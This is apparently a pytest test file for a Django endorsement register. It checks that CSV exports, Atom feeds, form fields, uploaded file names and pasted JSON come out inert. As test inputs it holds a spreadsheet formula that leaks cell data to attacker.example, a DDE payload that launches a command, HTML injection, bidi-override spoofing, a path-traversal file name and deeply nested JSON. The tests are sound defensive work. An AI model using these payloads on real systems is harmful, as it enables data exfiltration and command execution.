"""What the register publishes is inert everywhere: CSV files, feeds, typed text, file names, pasted JSON."""

import csv
import io
import xml.etree.ElementTree as ET
from http import HTTPStatus

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from initiatives.endorsing import record_endorsement, record_withdrawal
from initiatives.importing import preview, read_rows
from initiatives.models import Endorsement, Initiative
from members.accreditation import request_accreditation
from members.models import Accreditation, MemberState
from tests.conftest import PDF
from tests.factories import UserFactory

FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"Click")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
ATOM = "{http://www.w3.org/2005/Atom}"
RLO = "\u202e"


@pytest.fixture
def formulas(register):
    """Norway's endorsement with a formula as its statement, withdrawn with another as reason."""
    initiative = Initiative.objects.get(slug="gender-at-the-centre")
    staff = UserFactory(is_staff=True)
    row = record_endorsement(
        initiative=initiative,
        member_state=MemberState.objects.get(code="NOR"),
        endorsed_on=initiative.signing_opens_on,
        recorded_by=staff,
        source_url="https://example.org/note",
        statement=FORMULA,
        announce=False,
    )
    record_withdrawal(
        initiative=initiative,
        member_state=row.member_state,
        withdrawn_on=initiative.signing_opens_on,
        recorded_by=staff,
        reason=AT_FORMULA,
    )
    return row


def cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/endorsements.csv?initiative=gender-at-the-centre",
        "/api/v1/initiatives/gender-at-the-centre.csv",
        "/api/v1/states/nor.csv",
    ],
)
def test_public_csv_files_carry_no_live_formula(formulas, anonymous, path):
    values = cells(anonymous.get(path).content)
    assert "'" + FORMULA in values
    assert "'" + AT_FORMULA in values
    assert not any(value.startswith(("=", "+", "-", "@")) for value in values)


def test_the_admin_export_and_the_public_files_neutralise_alike(formulas, superuser_client):
    response = superuser_client.post(
        "/en/admin/initiatives/endorsement/", {"action": "export_csv", "_selected_action": [formulas.pk]}
    )
    values = cells(response.content)
    assert "'" + FORMULA in values and "'" + AT_FORMULA in values


def test_feeds_publish_typed_text_as_text_never_as_markup(register, anonymous):
    initiative = Initiative.objects.get(slug="gender-at-the-centre")
    record_endorsement(
        initiative=initiative,
        member_state=MemberState.objects.get(code="NOR"),
        endorsed_on=initiative.signing_opens_on,
        recorded_by=UserFactory(is_staff=True),
        source_url="https://example.org/note",
        statement='We endorse. <a href="https://attacker.example">Read more</a><img src=x>',
        announce=False,
    )
    feed = ET.fromstring(anonymous.get("/en/feeds/initiatives/gender-at-the-centre/").content)
    summary = feed.find(f"{ATOM}entry/{ATOM}summary").text
    # A reader decodes the summary as HTML once: the tags are text in it, shown as typed.
    assert summary.endswith(
        "<p>We endorse. &lt;a href=&quot;https://attacker.example&quot;&gt;Read more&lt;/a&gt;&lt;img src=x&gt;</p>"
    )
    assert "<a " not in summary and "<img" not in summary


def test_a_statement_with_a_bidi_override_is_refused_with_a_message(persona):
    _user, client = persona("delegate_of_x")
    response = client.post(
        "/en/initiatives/gender-at-the-centre/endorse/",
        {"statement": f"We endorse {RLO}txet siht", "authority": "on", "text_version": 1},
    )
    assert response.status_code == HTTPStatus.OK
    assert "changes the direction in which it is displayed" in response.content.decode()
    assert not Endorsement.objects.filter(initiative__slug="gender-at-the-centre", member_state__code="FRA").exists()


def test_the_secretariat_cannot_publish_a_bidi_override_in_a_title_either(superuser_client, register):
    initiative = Initiative.objects.get(slug="climate-and-security")
    page = superuser_client.get(f"/en/admin/initiatives/initiative/{initiative.pk}/change/")
    form = page.context["adminform"].form
    data = {name: value for name, value in form.initial.items() if value is not None and not isinstance(value, list)}
    data.update({"title_en": f"Climate {RLO}ytiruces"})
    response = superuser_client.post(f"/en/admin/initiatives/initiative/{initiative.pk}/change/", data)
    assert response.status_code == HTTPStatus.OK
    assert list(response.context["adminform"].form.errors) == ["title_en"]
    assert "changes the direction in which it is displayed" in response.content.decode()
    initiative.refresh_from_db()
    assert RLO not in initiative.title_en


def test_arabic_text_keeps_its_direction_marks(persona):
    _user, client = persona("delegate_of_x")
    statement = "\u0646\u0624\u064a\u062f \u200fUN\u200f"  # a right-to-left mark is how Arabic text places a Latin word
    response = client.post(
        "/en/initiatives/gender-at-the-centre/endorse/", {"statement": statement, "authority": "on", "text_version": 1}
    )
    assert response.status_code == HTTPStatus.FOUND
    assert (
        Endorsement.objects.get(initiative__slug="gender-at-the-centre", member_state__code="FRA").statement
        == statement
    )


def test_an_imported_line_with_a_bidi_override_is_an_error(register):
    text = f"initiative,state,endorsed_on,source,statement\ngender-at-the-centre,NOR,2019-09-26,https://example.org,{RLO}x\n"
    rows = preview(read_rows(text.encode(), "list.csv"))
    assert [row.outcome for row in rows] == ["error"]
    assert "changes the direction" in rows[0].message


def test_evidence_is_stored_under_a_random_name(register):
    user = UserFactory()
    item = request_accreditation(
        user=user,
        member_state=MemberState.objects.get(code="FRA"),
        position="Counsellor",
        evidence=SimpleUploadedFile("../../Note verbale of Jean Dupont.pdf", PDF),
        evidence_type="application/pdf",
        language="en",
    )
    name = Accreditation.objects.get(pk=item.pk).evidence.name
    assert "Dupont" not in name and ".." not in name
    assert name.startswith("evidence/") and name.endswith(".pdf")
    assert len(name.rsplit("/", 1)[1]) == len("0123456789abcdef0123456789abcdef.pdf")


@pytest.mark.parametrize("text", ["[" * 19_000, '{"receipt": ' + "[" * 50 + "]" * 50 + "}"])
def test_deeply_nested_json_in_the_verify_form_gets_a_clear_400(register, anonymous, text):
    response = anonymous.post("/en/receipts/verify/", {"receipt": text})
    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert "nests its values at most 8 levels deep" in response.content.decode()
